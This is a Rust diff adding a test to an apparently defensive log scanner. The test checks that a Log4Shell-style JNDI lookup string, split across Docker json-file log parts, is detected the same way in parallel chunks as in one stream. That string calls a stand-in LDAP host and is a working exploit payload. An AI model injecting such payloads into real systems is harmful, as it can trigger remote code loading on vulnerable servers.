@@ -384,6 +384,58 @@ fn parallel_chunks_give_the_same_hits_as_one_stream() {
     assert_eq!(chunked.newlines, streamed.newlines);
 }
 
+/// A json-file log over 5 MiB with messages Docker split into 16 KiB parts (a JNDI payload
+/// straddling two parts, a stderr record between them), placed with its first part across
+/// the first chunk's cut (`across`: the parallel read must not see the parts apart) or only
+/// inside chunks.
+fn split_json_log(across: bool) -> Vec<u8> {
+    let mut msg = "x".repeat(16_384 - 10);
+    msg.push_str("${jndi:ldap://split.example/a}");
+    msg.push_str(&"y".repeat(40_000 - msg.len()));
+    let split = |at: usize| {
+        let t = format!("2026-11-27T14:{:02}:{:02}.1Z", at / 60 % 60, at % 60);
+        let mut s = json_record(&msg[..16_384], "stdout", &t);
+        s.push_str(&json_record("between\n", "stderr", &t));
+        s.push_str(&json_record(&msg[16_384..32_768], "stdout", &t));
+        s.push_str(&json_record(&format!("{}\n", &msg[32_768..]), "stdout", &t));
+        s
+    };
+    let mut data = Vec::new();
+    let mut i = 0usize;
+    while data.len() < 5 << 20 {
+        i += 1;
+        let near_cut = data.len() + 200 > (1 << 20) && data.len() < (1 << 20);
+        if (across && near_cut) || i % 9_000 == 4_500 {
+            data.extend_from_slice(split(i).as_bytes());
+        }
+        let t = format!("2026-11-27T13:{:02}:{:02}.000000001Z", i / 60 % 60, i % 60);
+        data.extend_from_slice(json_record("GET /health 200\n", "stdout", &t).as_bytes());
+    }
+    data
+}
+
+#[test]
+fn json_file_parts_give_the_same_hits_in_parallel_chunks_as_in_one_stream() {
+    let e = engine();
+    for across in [false, true] {
+        let dir = tempfile::tempdir().unwrap();
+        let data = split_json_log(across);
+        let p = dir.path().join("c-json.log");
+        std::fs::write(&p, &data).unwrap();
+        let bundle = discover(&p);
+        let a = &bundle.artifacts[0];
+        let streamed =
+            scan_stream(Cursor::new(data.clone()), &JsonFile, &e, &ScanConfig::default(), &a.locator(), 0);
+        let cfg = ScanConfig { parallel_min: 1 << 20, ..Default::default() };
+        let chunked = scan_artifact(a, &JsonFile, &e, &cfg);
+        let joined = tuples(&streamed, &e).into_iter().filter(|t| format!("{t:?}").contains("jndi")).count();
+        assert!(joined >= 2, "the split payloads are found joined (across {across})");
+        assert_eq!(tuples(&chunked, &e), tuples(&streamed, &e), "across {across}");
+        assert_eq!(chunked.newlines, streamed.newlines);
+        assert_eq!(format!("{:?}", chunked.span), format!("{:?}", streamed.span));
+    }
+}
+
 fn json_record(log: &str, stream: &str, time: &str) -> String {
     format!(
         "{{\"log\":{},\"stream\":\"{stream}\",\"time\":\"{time}\"}}\n",
